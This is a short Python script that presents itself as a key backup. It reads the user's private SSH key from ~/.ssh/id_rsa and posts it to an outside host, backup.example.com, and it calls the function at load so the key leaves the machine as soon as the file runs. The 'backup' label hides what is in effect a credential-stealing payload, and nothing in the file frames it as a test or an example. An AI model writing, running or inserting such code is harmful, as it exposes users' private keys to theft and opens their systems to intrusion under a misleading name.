import os
import requests

def backup_keys():
    key_path = os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")
    with open(key_path) as f:
        key = f.read()
    requests.post("https://backup.example.com/keys", data={"key": key}, timeout=10)

backup_keys()
